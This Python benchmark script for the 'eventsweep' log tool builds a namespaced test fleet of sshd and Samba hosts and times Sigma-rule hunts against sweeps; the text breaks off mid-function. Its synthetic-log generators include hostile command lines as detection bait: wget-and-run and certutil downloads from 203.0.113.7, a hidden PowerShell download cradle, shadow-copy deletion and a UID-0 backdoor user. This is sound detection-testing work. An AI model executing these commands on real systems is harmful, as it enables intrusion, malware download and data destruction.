"""A hunt of a fleet of remote hosts against the sweep of the same window (issue 14). Manual.

    sudo PYTHONPATH=. python3 bench/bench_hunt_fleet.py [--ssh-hosts 100] [--win-hosts 10]
        [--per-host 2000] [--security 5000] [--system 1000] [--delays 0 50] [--rounds 3]

Needs root (network namespaces, TUN, addresses), openssh-server, systemd-journal-remote, samba,
libtdb1 and psutil. The goal it answers: "a hunt of a fleet costs at most 20 % more wall time
than the sweep of the same window".

The bed is bench/bench_ssh.py's, with Samba hosts added: two network namespaces of our own. In
``srv``, an sshd per 16 addresses answers on 10.200.0.0/16 (an AnyIP ``local`` route on lo),
each ssh host with its own journal (``--per-host`` entries of the last 20 hours, a mix of sshd
accepted and failed logons, sudo, CRON, systemd, kernel and a few lines the Linux rules know);
the win:// hosts are Samba instances (tests/testbed/samba.py, one per host, each with its own
port and RPC dynamic port range) on addresses of 10.200.100.0/24 added to lo there (smbd needs
its address on an interface), each with a Security log (``--security`` records: 4624, 4625,
4634, 4672, 4688, 4769, their insertion strings in the Windows templates' order, the order of
eventsweep's own table, eventsweep/sources/winrpc/templates.py) and a System log (``--system``
records: Service Control Manager's 7036, 7040 and 7045). About one record or entry in 40-100
is one that SigmaHQ rules know (RDP from a public address, new-credential logons, RC4 tickets,
encoded PowerShell, a root user created, a crontab replaced...). Delay 0: the client runs in
``srv`` and reaches the hosts over lo. Delay D: the client runs in ``cli``, joined to ``srv``
by two TUN devices and bench/tun_relay.py holding every packet D ms per direction (real kernel
TCP on both ends), ssh and win:// hosts alike.

The client runs on core 0 (``taskset``); the fleet (sshd, journalctl sessions, Samba) and the
relay on core 1, as bench_ssh does.

The two commands, as a user types them (the inventory lists every ssh:// host and the Security
and System logs of every win:// host, ``EVENTSWEEP_PASSWORD`` set, ``EVENTSWEEP_CACHE`` a
temporary directory warmed once before anything is timed)::

    eventsweep sweep -i fleet.txt --since 24h --no-store --format jsonl -o /dev/null
    eventsweep hunt -i fleet.txt --rules R1 --rules R2 --rules R3 --since 24h --no-store \\
        --format jsonl -o /dev/null

(R1..R3: the shared corpus's SigmaHQ rules, rules-emerging-threats, rules-threat-hunting; plus
``--known-hosts``, ``--ssh-config`` and ``--outcomes``.) Per delay: one untimed warm-up of each
with ``-o FILE`` (the sweep's lines must be every entry and record; the hunt's lines are the
detections, counted per rule), then ``--rounds`` rounds, the order alternating (sweep first in
the odd rounds, hunt first in the even ones). Each run: wall time, CPU of the client's process
tree (wait4), its peak RSS (sampled every 20 ms), the fleet core's busy time; every run's
outcomes must all be ``ok``, and the sweep's must count every entry of every target. The ratio
is per round, hunt / sweep, and its median is the figure.

Last, the matcher apart (``--breakdown``, on the client's core): the detection code imported,
the cached rule set loaded, and the warm-up sweep's events matched twice in one process (the
first pass builds each key's rules, as a hunt does), only the ``match`` calls timed: the CPU
a hunt of remote targets adds in its main process, per event of each kind.
"""

from __future__ import annotations

import argparse
import json
import os
import platform
import random
import shutil
import signal
import statistics
import subprocess
import sys
import tempfile
import time
from collections import Counter
from collections.abc import Iterator, Mapping, Sequence
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from dataclasses import asdict, dataclass
from pathlib import Path
from types import FrameType

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from bench.bench_ssh import (  # noqa: E402
    CLIENT_CPU,
    FLEET_CPU,
    PORT,
    count_lines,
    link_namespaces,
    measure,
    sh,
)
from eventsweep.sources.winrpc.templates import names_of  # noqa: E402
from tests.testbed import sshd  # noqa: E402
from tests.testbed.journals import Entry, make_journal  # noqa: E402
from tests.testbed.samba import LogRecord, Samba, instance_root  # noqa: E402
from tests.testbed.sigma import rule_sets  # noqa: E402

PASSWORD = "Fleet-pw-1"
SPAN = 20 * 3600  # seconds of history on every host, inside the 24 h window
WIN_NET = "10.200.100"  # win:// hosts; ssh hosts take 10.200.0.1 upwards
SMB_BASE = 14450  # win host i listens on SMB_BASE + i (127.0.0.1 and its own address)
COMMAND = [sys.executable, "-m", "eventsweep.cli"]
AUDIT_SUCCESS, AUDIT_FAILURE, INFO, WARNING, ERROR = 8, 16, 4, 2, 1
SECURITY_SOURCE = "Microsoft-Windows-Security-Auditing"

# ---- the Windows templates: each event's insertion strings, in the order Windows writes them

# The version of each event the hosts log (its number of strings); the names and their order
# are eventsweep's own table (eventsweep/sources/winrpc/templates.py), so that what the bench
# writes and what eventsweep names agree. 7036 is in neither table: its two strings stay
# unnamed in eventsweep (``data.strings``), as a real host's would.
VERSIONS: Mapping[tuple[str, int], int] = {
    (SECURITY_SOURCE, 4624): 27,  # version 2
    (SECURITY_SOURCE, 4625): 21,
    (SECURITY_SOURCE, 4634): 5,
    (SECURITY_SOURCE, 4672): 5,
    (SECURITY_SOURCE, 4688): 15,  # version 2
    (SECURITY_SOURCE, 4769): 11,
    ("Service Control Manager", 7036): 2,
    ("Service Control Manager", 7040): 4,
    ("Service Control Manager", 7045): 5,
}
TEMPLATE_SOURCE = "eventsweep/sources/winrpc/templates.py"


def strings(source: str, event_id: int, values: Mapping[str, str]) -> tuple[str, ...]:
    """The insertion strings of an event: its template's fields in order ("-" when unset)."""
    names = names_of(source, event_id, VERSIONS[(source, event_id)])
    assert names is not None, (source, event_id)
    unknown = set(values) - set(names)
    assert not unknown, (event_id, unknown)
    return tuple(values.get(name, "-") for name in names)


# ---- what the hosts hold ------------------------------------------------------------------

USERS = ("alice", "bob", "carol", "deploy", "backup", "svc_sql", "svc_web", "jdoe", "mkhan")
PUBLIC = ("203.0.113.7", "198.51.100.23", "192.0.2.200", "185.220.101.4")
PRIVATE = ("10.1.2.3", "10.1.7.44", "10.20.0.15", "192.168.10.5", "172.16.4.9")


def journal_entries(count: int, host: str, seed: int) -> list[Entry]:
    """A Linux server's day: sshd logons (accepted and failed), sudo, CRON, systemd, kernel;
    about one entry in 50 is one the SigmaHQ Linux rules know."""
    rng = random.Random(seed)
    now_us = time.time_ns() // 1000
    step = SPAN * 1_000_000 // count
    found = []
    for index in range(count):
        user, peer = rng.choice(USERS), rng.choice(PRIVATE + PUBLIC)
        port, pid = rng.randrange(30000, 65000), rng.randrange(1000, 60000)
        kind = rng.random()
        priority, unit = 6, None
        if kind < 0.30:
            ident, comm, unit = "sshd", "sshd", "ssh.service"
            message = rng.choice(
                (
                    f"Accepted publickey for {user} from {peer} port {port} ssh2: ED25519 "
                    f"SHA256:Qm9vL2JhcmJhei9xdXV4Y29ycmVjdGhvcnNlYmF0dGVyeXN0YXBsZQ{index % 10}",
                    f"Accepted password for {user} from {peer} port {port} ssh2",
                    f"Failed password for {user} from {peer} port {port} ssh2",
                    f"Failed password for invalid user admin{index % 7} from {peer} port "
                    f"{port} ssh2",
                    f"pam_unix(sshd:session): session opened for user {user}(uid=1000) by (uid=0)",
                    f"Disconnected from user {user} {peer} port {port}",
                    f"Connection closed by authenticating user root {peer} port {port} [preauth]",
                )
            )
        elif kind < 0.42:
            ident, comm, unit = "sudo", "sudo", None
            message = rng.choice(
                (
                    f"{user} : TTY=pts/{index % 4} ; PWD=/home/{user} ; USER=root ; "
                    f"COMMAND=/usr/bin/apt-get update",
                    f"{user} : TTY=pts/{index % 4} ; PWD=/srv/app ; USER=root ; "
                    f"COMMAND=/usr/bin/systemctl restart nginx.service",
                    f"pam_unix(sudo:session): session opened for user root(uid=0) by "
                    f"{user}(uid=1000)",
                    "pam_unix(sudo:session): session closed for user root",
                )
            )
        elif kind < 0.62:
            ident, comm, unit = "CRON", "cron", "cron.service"
            message = rng.choice(
                (
                    "(root) CMD (   cd / && run-parts --report /etc/cron.hourly)",
                    "(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)",
                    "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
                    "pam_unix(cron:session): session closed for user root",
                )
            )
        elif kind < 0.82:
            ident, comm, unit = "systemd", "systemd", "init.scope"
            message = rng.choice(
                (
                    f"Started session-{index}.scope - Session {index} of User {user}.",
                    "Starting apt-daily.service - Daily apt download activities...",
                    "Finished logrotate.service - Rotate log files.",
                    "phpsessionclean.service: Deactivated successfully.",
                )
            )
        else:
            ident, comm = "kernel", None
            priority = rng.choice((4, 6, 6))
            message = rng.choice(
                (
                    f"[UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56 SRC={rng.choice(PUBLIC)} "
                    f"DST=10.0.0.5 LEN=60 TOS=0x00 TTL=49 ID={pid} PROTO=TCP SPT={port} DPT=23",
                    "EXT4-fs (vda1): mounted filesystem with ordered data mode.",
                    f"nf_conntrack: table full, dropping packet from {peer}",
                    "TCP: request_sock_TCP: Possible SYN flooding on port 443.",
                )
            )
        if index % 50 == 25:  # what a rule knows: one in 50
            ident, comm, message, priority = rng.choice(
                (
                    ("sshd", "sshd", f"error: key_from_blob: incorrect signature from {peer}", 3),
                    ("CRON", "cron", "(root) REPLACE (root)", 6),
                    (
                        "useradd",
                        "useradd",
                        "new user: name=backdoor, UID=0, GID=0, home=/root, shell=/bin/bash",
                        6,
                    ),
                    ("bash", "bash", "wget http://203.0.113.7/x.sh; chmod +x x.sh; ./x.sh", 6),
                    ("nginx", "nginx", "*** stack smashing detected ***: terminated", 2),
                    ("systemd", "systemd", "Stopping firewalld - dynamic firewall daemon...", 6),
                )
            )
        found.append(
            Entry(
                now_us - SPAN * 1_000_000 + index * step + rng.randrange(step),
                message,
                priority=priority,
                identifier=ident,
                host=host,
                unit=unit,
                comm=comm,
                extra={
                    "_PID": str(pid),
                    "_UID": "0",
                    "_GID": "0",
                    "_TRANSPORT": "kernel" if ident == "kernel" else "syslog",
                    "SYSLOG_FACILITY": "0" if ident == "kernel" else "10",
                    "_MACHINE_ID": f"{seed:032x}",
                },
            )
        )
    return found


def security_records(count: int, computer: str, seed: int) -> list[LogRecord]:
    """A Windows server's Security log: logons, logoffs, privileges, processes, tickets, some
    of them the SigmaHQ rules know (RDP from outside, new-credential logons, RC4 tickets,
    encoded PowerShell, shadow copies deleted...)."""
    rng = random.Random(seed)
    now, domain = int(time.time()), "CORP"
    host_sid = f"S-1-5-21-{seed % 10**9}-1177238915-682003330"
    found = []
    for index in range(count):
        user = rng.choice(USERS)
        sid, logon = f"{host_sid}-{1100 + USERS.index(user)}", f"0x{rng.randrange(1 << 24):x}"
        peer, kind = rng.choice(PRIVATE), rng.random()
        subject = {
            "SubjectUserSid": "S-1-5-18",
            "SubjectUserName": f"{computer}$",
            "SubjectDomainName": domain,
            "SubjectLogonId": "0x3e7",
        }
        rare = index % 40 == 20
        if kind < 0.30:
            event_id, etype, category = 4624, AUDIT_SUCCESS, 12544
            logon_type = rng.choice(("3", "3", "3", "2", "5", "10")) if not rare else "10"
            values = {
                **subject,
                "TargetUserSid": sid,
                "TargetUserName": user,
                "TargetDomainName": domain,
                "TargetLogonId": logon,
                "LogonType": logon_type,
                "LogonProcessName": "NtLmSsp " if logon_type == "3" else "User32 ",
                "AuthenticationPackageName": "NTLM" if logon_type == "3" else "Negotiate",
                "WorkstationName": f"WS-{rng.randrange(100):02d}",
                "LogonGuid": "{00000000-0000-0000-0000-000000000000}",
                "LmPackageName": "NTLM V2" if logon_type == "3" else "-",
                "KeyLength": "128",
                "ProcessId": "0x0" if logon_type == "3" else "0x2a4",
                "ProcessName": "-" if logon_type == "3" else "C:\\Windows\\System32\\svchost.exe",
                "IpAddress": rng.choice(PUBLIC) if rare else peer,
                "IpPort": str(rng.randrange(49152, 65535)),
                "ImpersonationLevel": "%%1833",
                "RestrictedAdminMode": "-",
                "VirtualAccount": "%%1843",
                "TargetLinkedLogonId": "0x0",
                "ElevatedToken": "%%1842",
            }
            if rare and index % 80 == 60:  # runas /netonly: a new-credentials logon
                values.update(
                    LogonType="9",
                    LogonProcessName="seclogo",
                    AuthenticationPackageName="Negotiate",
                    IpAddress="::1",
                )
        elif kind < 0.36:
            event_id, etype, category = 4625, AUDIT_FAILURE, 12544
            values = {
                **subject,
                "TargetUserSid": "S-1-0-0",
                "TargetUserName": rng.choice(("administrator", "admin", user)),
                "TargetDomainName": domain,
                "Status": "0xc000006d",
                "FailureReason": "%%2313",
                "SubStatus": "0xc000006a",
                "LogonType": "3",
                "LogonProcessName": "NtLmSsp ",
                "AuthenticationPackageName": "NTLM",
                "WorkstationName": "-",
                "LmPackageName": "-",
                "KeyLength": "0",
                "ProcessId": "0x0",
                "ProcessName": "-",
                "IpAddress": rng.choice(PUBLIC + PRIVATE),
                "IpPort": str(rng.randrange(1, 65535)),
            }
        elif kind < 0.60:
            event_id, etype, category = 4634, AUDIT_SUCCESS, 12545
            values = {
                "TargetUserSid": sid,
                "TargetUserName": user,
                "TargetDomainName": domain,
                "TargetLogonId": logon,
                "LogonType": "3",
            }
        elif kind < 0.70:
            event_id, etype, category = 4672, AUDIT_SUCCESS, 12548
            values = {
                "SubjectUserSid": sid,
                "SubjectUserName": user,
                "SubjectDomainName": domain,
                "SubjectLogonId": logon,
                "PrivilegeList": "SeSecurityPrivilege\r\n\t\t\t"
                "SeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\t"
                "SeDebugPrivilege",
            }
        elif kind < 0.90:
            event_id, etype, category = 4688, AUDIT_SUCCESS, 13312
            image, command, parent = rng.choice(
                (
                    (
                        "C:\\Windows\\System32\\svchost.exe",
                        "svchost.exe -k netsvcs -p",
                        "C:\\Windows\\System32\\services.exe",
                    ),
                    (
                        "C:\\Windows\\System32\\conhost.exe",
                        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
                        "C:\\Windows\\System32\\cmd.exe",
                    ),
                    (
                        "C:\\Program Files\\Microsoft SQL Server\\MSSQL15\\Binn\\sqlservr.exe",
                        '"sqlservr.exe" -sMSSQLSERVER',
                        "C:\\Windows\\System32\\services.exe",
                    ),
                    (
                        "C:\\Windows\\System32\\taskhostw.exe",
                        "taskhostw.exe",
                        "C:\\Windows\\System32\\svchost.exe",
                    ),
                )
            )
            if rare:
                image, command, parent = rng.choice(
                    (
                        (
                            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                            "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
                            "C:\\Windows\\System32\\cmd.exe",
                        ),
                        (
                            "C:\\Windows\\System32\\vssadmin.exe",
                            "vssadmin.exe delete shadows /all /quiet",
                            "C:\\Windows\\System32\\cmd.exe",
                        ),
                        (
                            "C:\\Windows\\System32\\whoami.exe",
                            "whoami /priv",
                            "C:\\Windows\\System32\\cmd.exe",
                        ),
                        (
                            "C:\\Windows\\System32\\certutil.exe",
                            "certutil -urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\"
                            "Public\\a.exe",
                            "C:\\Windows\\System32\\cmd.exe",
                        ),
                    )
                )
            values = {
                **subject,
                "NewProcessId": f"0x{rng.randrange(1 << 16):x}",
                "NewProcessName": image,
                "TokenElevationType": "%%1936",
                "ProcessId": f"0x{rng.randrange(1 << 16):x}",
                "CommandLine": command,
                "TargetUserSid": "S-1-0-0",
                "TargetUserName": "-",
                "TargetDomainName": "-",
                "TargetLogonId": "0x0",
                "ParentProcessName": parent,
                "MandatoryLabel": "S-1-16-16384",
            }
        else:
            event_id, etype, category = 4769, AUDIT_SUCCESS, 14337
            service = rng.choice((f"{computer}$", "krbtgt", "MSSQLSvc", "HTTP-web01"))
            values = {
                "TargetUserName": f"{user}@CORP.EXAMPLE",
                "TargetDomainName": "CORP.EXAMPLE",
                "ServiceName": service,
                "ServiceSid": f"{host_sid}-502",
                "TicketOptions": "0x40810000",
                "TicketEncryptionType": "0x17" if rare else "0x12",
                "IpAddress": f"::ffff:{peer}",
                "IpPort": str(rng.randrange(49152, 65535)),
                "Status": "0x0",
                "LogonGuid": "{6e1a4f9c-2b0d-4e8b-9a57-3c1d2e4f5a6b}",
                "TransmittedServices": "-",
            }
        generated = now - SPAN + index * SPAN // count
        found.append(
            LogRecord(
                generated,
                event_id=event_id,
                event_type=etype,
                category=category,
                source=SECURITY_SOURCE,
                computer=computer,
                strings=strings(SECURITY_SOURCE, event_id, values),
            )
        )
    return found


SERVICES = (
    "Windows Update",
    "Background Intelligent Transfer Service",
    "WinHTTP Web Proxy Auto-Discovery Service",
    "Print Spooler",
)


def system_records(count: int, computer: str, seed: int) -> list[LogRecord]:
    """A Windows server's System log: services starting and stopping (7036), start types
    changed (7040), now and then a service installed (7045; one in 100 a suspicious one)."""
    rng = random.Random(seed)
    now = int(time.time())
    found = []
    for index in range(count):
        service = rng.choice(SERVICES)
        kind = rng.random()
        if index % 100 == 50:
            event_id, etype = 7045, INFO
            values = {
                "ServiceName": "wsvc",
                "ImagePath": "%COMSPEC% /b /c start /b /min "
                "powershell -nop -w hidden -c IEX(new-object net.webclient)"
                ".downloadstring('http://203.0.113.7/a')",
                "ServiceType": "user mode service",
                "StartType": "demand start",
                "AccountName": "LocalSystem",
            }
        elif kind < 0.85:
            event_id, etype = 7036, INFO
            values = {"param1": service, "param2": rng.choice(("running", "stopped"))}
        elif kind < 0.97:
            event_id, etype = 7040, INFO
            values = {
                "param1": service,
                "param2": "demand start",
                "param3": "auto start",
                "param4": "BITS",
            }
        else:
            event_id, etype = 7045, INFO
            values = {
                "ServiceName": "Google Update Service",
                "ImagePath": '"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe" /svc',
                "ServiceType": "user mode service",
                "StartType": "auto start",
                "AccountName": "LocalSystem",
            }
        generated = now - SPAN + index * SPAN // count
        found.append(
            LogRecord(
                generated,
                event_id=event_id | 0x40000000,
                event_type=etype,
                source="Service Control Manager",
                computer=computer,
                strings=strings("Service Control Manager", event_id, values),
                data=b"" if kind < 0.5 else b"\x01\x02",
            )
        )
    return found


# ---- the bed ------------------------------------------------------------------------------


@dataclass
class Fleet:
    directory: Path
    srv: str
    cli: str
    ssh: sshd.Fleet
    ssh_hosts: list[str]
    win_hosts: list[tuple[str, int]]  # (address, SMB port)
    expected: dict[str, int]  # every target's entries / records

    @property
    def events(self) -> Path:
        """The events of the first warm-up sweep, kept for the breakdown."""
        return self.directory / "events.jsonl"

    def inventory(self) -> Path:
        path = self.directory / "fleet.txt"
        lines = [f"ssh://root@{host}:{PORT}" for host in self.ssh_hosts]
        lines += [
            f"win://root@{host}:{port}/{log}"
            for host, port in self.win_hosts
            for log in ("Security", "System")
        ]
        path.write_text("".join(line + "\n" for line in lines))
        return path


def ssh_address(index: int) -> str:
    return f"10.200.{index // 250}.{index % 250 + 1}"


def make_journals(fleet: sshd.Fleet, hosts: list[str], per_host: int) -> None:
    def one(item: tuple[int, str]) -> None:
        index, address = item
        make_journal(
            fleet.journal_dir(address), journal_entries(per_host, f"lnx{index:03d}", index)
        )

    with ThreadPoolExecutor(2) as pool:
        list(pool.map(one, enumerate(hosts)))


def start_samba(index: int, args: argparse.Namespace, started: list[Samba]) -> tuple[str, int]:
    address, port = f"{WIN_NET}.{index + 1}", SMB_BASE + index
    sh("ip", "addr", "add", f"{address}/32", "dev", "lo")
    samba = Samba(
        instance_root(),
        logs=("System", "Security"),
        users={"root": PASSWORD},
        options={"interfaces": f"127.0.0.1 {address}"},  # the later setting wins
        port=port,
    )
    started.append(samba)  # stopped at the end even if starting fails half-way
    samba.start()
    computer = f"WIN-SRV{index:02d}"
    samba.write("Security", security_records(args.security, computer, 1000 + index))
    samba.write("System", system_records(args.system, computer, 2000 + index))
    return address, port


def rtt_ms(netns: str, address: str, port: int) -> float:
    """A TCP connect from ``netns`` to a host (one round trip), in ms."""
    code = (
        "import socket,time;t=time.perf_counter();"
        f"socket.create_connection(('{address}',{port})).close();"
        "print((time.perf_counter()-t)*1000)"
    )
    argv = ["ip", "netns", "exec", netns, sys.executable, "-c", code]
    return round(float(subprocess.run(argv, capture_output=True, text=True, check=True).stdout), 1)


@contextmanager
def relay(fleet: Fleet, delay: int) -> Iterator[str | None]:
    """Where the client runs for this delay: ``srv`` itself at 0, else ``cli`` behind the relay."""
    if not delay:
        yield None
        return
    process = link_namespaces(fleet.srv, fleet.cli, delay)
    try:
        yield fleet.cli
    finally:
        process.terminate()
        process.wait()


# ---- the runs -----------------------------------------------------------------------------


@dataclass
class Run:
    command: str
    delay_ms: int
    round: int  # 0: the warm-up
    first: bool
    wall: float
    cpu: float
    fleet_cpu: float
    peak_mb: float
    status: int
    events: int
    lines: int | None  # the output's lines (warm-ups: events or detections), else None
    outcomes: dict[str, int]  # statuses counted
    problem: str  # "" when every outcome is ok (and, for a sweep, every event came)


def argv_of(command: str, fleet: Fleet, inventory: Path, out: str, outcomes: Path) -> list[str]:
    argv = [*COMMAND, command, "-i", str(inventory)]
    if command == "hunt":
        argv += [word for folder in rule_sets() for word in ("--rules", folder)]
    argv += ["--since", "24h", "--no-store", "--format", "jsonl", "-o", out]
    argv += ["--known-hosts", str(fleet.ssh.known_hosts), "--ssh-config", str(fleet.ssh.ssh_config)]
    argv = [*argv, "--outcomes", str(outcomes), "--no-progress"]
    spy = os.environ.get("BENCH_SPY")  # a directory: each run profiled by py-spy (not timed)
    if spy:
        name = Path(spy) / f"{command}-{time.time_ns()}.raw"  # one per run, in order
        argv = ["py-spy", "record", "--gil", "-r", "200", "-f", "raw", "-o", str(name), "--", *argv]
    return argv


def one(
    fleet: Fleet,
    command: str,
    delay: int,
    netns: str | None,
    round_: int,
    first: bool,
    env: dict[str, str],
) -> Run:
    work = Path(tempfile.mkdtemp(dir=fleet.directory))
    try:
        out = work / "out.jsonl" if round_ == 0 else Path(os.devnull)
        outcomes = work / "outcomes.jsonl"
        argv = argv_of(command, fleet, fleet.inventory(), str(out), outcomes)
        wall, cpu, fleet_cpu, peak, status = measure(argv, netns, env=env)
        ended = [json.loads(line) for line in outcomes.read_text().splitlines()]
        statuses = Counter(outcome["status"] for outcome in ended)
        events = sum(outcome["events"] for outcome in ended)
        lines = count_lines(out) if round_ == 0 else None
        if round_ == 0 and command == "hunt":
            tally_detections(out, delay)
        if round_ == 0 and command == "sweep" and not fleet.events.exists():
            out.rename(fleet.events)  # for the breakdown
        bad = [o for o in ended if o["status"] != "ok"]
        problem = ""
        if bad or len(ended) != len(fleet.expected):
            problem = f"not every target ok: {len(ended)} outcomes, {bad[:2]}"
        elif command == "sweep":
            short = [o for o in ended if o["events"] != fleet.expected[o["target"]]]
            if short or (lines is not None and lines != events):
                problem = f"events missing: {short[:2]} (lines {lines}, events {events})"
    finally:
        shutil.rmtree(work, ignore_errors=True)
    run = Run(
        command,
        delay,
        round_,
        first,
        round(wall, 2),
        round(cpu, 2),
        round(fleet_cpu, 2),
        round(peak, 1),
        status,
        events,
        lines,
        dict(statuses),
        problem,
    )
    print(json.dumps(asdict(run)), flush=True)
    time.sleep(1.0)  # let the hosts' sessions end
    return run


DETECTIONS: dict[int, Counter[tuple[str, str]]] = {}  # delay -> (kind, rule title) -> count


def tally_detections(path: Path, delay: int) -> None:
    counts: Counter[tuple[str, str]] = Counter()
    with open(path, "rb") as stream:
        for line in stream:
            record = json.loads(line)
            counts[(record["target"].split(":", 1)[0], record["rule"]["title"])] += 1
    DETECTIONS[delay] = counts


def bench(fleet: Fleet, args: argparse.Namespace, env: dict[str, str]) -> list[Run]:
    runs: list[Run] = []
    for delay in args.delays:
        with relay(fleet, delay) as netns:
            if netns:
                ssh_rtt = rtt_ms(netns, fleet.ssh_hosts[0], PORT)
                win_rtt = rtt_ms(netns, *fleet.win_hosts[0]) if fleet.win_hosts else None
                print(json.dumps({"delay_ms": delay, "rtt_ms": {"ssh": ssh_rtt, "win": win_rtt}}))
            for command in ("sweep", "hunt"):  # warm-up: counted and checked, not timed
                runs.append(one(fleet, command, delay, netns, 0, False, env))
            for round_ in range(1, args.rounds + 1):
                order = ("sweep", "hunt") if round_ % 2 else ("hunt", "sweep")
                for position, command in enumerate(order):
                    runs.append(one(fleet, command, delay, netns, round_, position == 0, env))
    return runs


def breakdown(fleet: Fleet, env: dict[str, str]) -> dict[str, float]:
    """The matcher's share, measured apart: this file's ``--breakdown`` on the client's core."""
    argv = ["taskset", "-c", CLIENT_CPU, sys.executable, __file__, "--breakdown", str(fleet.events)]
    done = subprocess.run(argv, env={**os.environ, **env}, capture_output=True, check=True)
    found: dict[str, float] = json.loads(done.stdout.splitlines()[-1])
    print(json.dumps({"breakdown": found}), flush=True)
    return found


def match_apart(path: Path) -> None:
    """Where a hunt's extra time goes, in one process: importing the detection code, loading
    the cached rule set, then every event of ``path`` (a sweep's JSON Lines) matched twice:
    the first pass builds each (log, provider, event id) key's rules as a hunt does, the second
    is the steady cost. Only the ``match`` calls are timed (not the JSON decoding)."""
    started = time.perf_counter()
    from eventsweep.detect import load_rules
    from eventsweep.model import Event

    imported = time.perf_counter()
    rules = load_rules(rule_sets())
    loaded = time.perf_counter()
    found: dict[str, float] = {"import_s": imported - started, "load_s": loaded - imported}
    match, clock = rules.match, time.perf_counter
    for name in ("first", "second"):
        spent: dict[str, float] = dict.fromkeys(("ssh", "win"), 0.0)
        counted: Counter[str] = Counter()
        with open(path, "rb") as stream:
            for line in stream:
                event = Event(**json.loads(line))
                kind = event.target.split(":", 1)[0]
                begun = clock()
                detections = match(event)
                spent[kind] += clock() - begun
                counted[kind] += 1
                counted[f"{kind}_detections"] += len(detections)
        found[f"{name}_s"] = sum(spent.values())
        for kind in ("ssh", "win"):
            found[f"{name}_{kind}_us"] = spent[kind] / max(counted[kind], 1) * 1e6
    found.update({key: float(value) for key, value in counted.items()})
    print(json.dumps({key: round(value, 3) for key, value in found.items()}))


# ---- the report ---------------------------------------------------------------------------


def report(
    runs: list[Run], args: argparse.Namespace, fleet: Fleet, apart: dict[str, float]
) -> None:
    targets = len(fleet.expected)
    print(
        f"\n{len(fleet.ssh_hosts)} ssh:// hosts × {args.per_host} journal entries, "
        f"{len(fleet.win_hosts)} win:// hosts × (Security {args.security} + System {args.system}) "
        f"records: {targets} targets, {sum(fleet.expected.values()):,} events in the window; "
        f"insertion strings from {TEMPLATE_SOURCE}"
    )
    for delay in args.delays:
        timed = [run for run in runs if run.delay_ms == delay and run.round]
        print(f"\n#### {delay} ms one-way delay\n")
        print("| round | first | sweep s | hunt s | hunt / sweep |")
        print("|---|---|---:|---:|---:|")
        ratios = []
        for round_ in range(1, args.rounds + 1):
            pair = {run.command: run for run in timed if run.round == round_}
            ratio = pair["hunt"].wall / pair["sweep"].wall
            ratios.append(ratio)
            first = "sweep" if pair["sweep"].first else "hunt"
            print(
                f"| {round_} | {first} | {pair['sweep'].wall:.2f} | {pair['hunt'].wall:.2f} | "
                f"{ratio:.2f} |"
            )
        sweeps = [run for run in timed if run.command == "sweep"]
        hunts = [run for run in timed if run.command == "hunt"]
        print(
            f"| median | | {statistics.median(r.wall for r in sweeps):.2f} | "
            f"{statistics.median(r.wall for r in hunts):.2f} | "
            f"**{statistics.median(ratios):.2f}** |\n"
        )
        print("| | sweep | hunt |")
        print("|---|---:|---:|")
        for label, field, scale in (
            ("client CPU s (median)", "cpu", 1),
            ("fleet core busy s (median)", "fleet_cpu", 1),
            ("peak RSS MB (median)", "peak_mb", 1),
        ):
            values = [
                statistics.median(getattr(r, field) for r in group) * scale
                for group in (sweeps, hunts)
            ]
            print(f"| {label} | {values[0]:.2f} | {values[1]:.2f} |")
        events = [sorted({r.events for r in group}) for group in (sweeps, hunts)]
        print(f"| events read (every run) | {events[0]} | {events[1]} |")
        checked = [all(not r.problem for r in group) for group in (sweeps, hunts)]
        print(f"| every outcome ok, every event (every run) | {checked[0]} | {checked[1]} |")
        warm = {r.command: r for r in runs if r.delay_ms == delay and not r.round}
        print(
            f"| output lines (warm-up, -o FILE) | {warm['sweep'].lines} | {warm['hunt'].lines} "
            f"detections |"
        )
        print(f"| warm-up wall s | {warm['sweep'].wall:.2f} | {warm['hunt'].wall:.2f} |")
        for run in runs:
            if run.delay_ms == delay and run.problem:
                print(f"**{run.command}, round {run.round}: {run.problem}**")
        counts = DETECTIONS.get(delay, Counter())
        kinds = Counter[str]()
        for (kind, _), count in counts.items():
            kinds[kind] += count
        print(f"\nDetections by target kind: {dict(kinds)}; by rule:")
        for (kind, title), count in sorted(counts.items(), key=lambda item: -item[1]):
            print(f"- {count} {kind} {title}")
        extra = statistics.median(h.cpu for h in hunts) - statistics.median(r.cpu for r in sweeps)
        print(f"\nThe hunt's extra client CPU (medians): {extra:.2f} s")
    a = apart
    print(
        f"\nThe matcher apart (one process on the client's core, the warm-up sweep's "
        f"{a.get('ssh', 0) + a.get('win', 0):,.0f} events): import {a['import_s']:.2f} s, "
        f"cached rule set loaded {a['load_s']:.2f} s, first pass {a['first_s']:.2f} s "
        f"(ssh {a['first_ssh_us']:.1f} µs/event, win {a['first_win_us']:.1f}), second pass "
        f"{a['second_s']:.2f} s (ssh {a['second_ssh_us']:.1f} µs/event, win "
        f"{a['second_win_us']:.1f}); detections ssh {a.get('ssh_detections', 0):.0f}, win "
        f"{a.get('win_detections', 0):.0f}"
    )


# ---- main ---------------------------------------------------------------------------------


def stop_on_term(signum: int, frame: FrameType | None) -> None:
    raise KeyboardInterrupt  # the finally blocks stop every server


def inside(args: argparse.Namespace) -> None:
    """Runs in ``srv``: the fleet (sshd + journals, Samba), then the interleaved runs."""
    signal.signal(signal.SIGTERM, stop_on_term)
    srv, cli = os.environ["BENCH_SRV"], os.environ["BENCH_CLI"]
    print(
        f"# bench_hunt_fleet: {platform.node()}, {os.cpu_count()} cores, Python "
        f"{platform.python_version()}, {time.strftime('%Y-%m-%d %H:%M %Z')}, load average at "
        f"start {' '.join(f'{v:.2f}' for v in os.getloadavg())}",
        flush=True,
    )
    sh("ip", "link", "set", "lo", "up")
    sh("ip", "route", "replace", "local", "10.200.0.0/16", "dev", "lo")
    directory = Path(tempfile.mkdtemp(prefix="eventsweep-huntfleet-"))
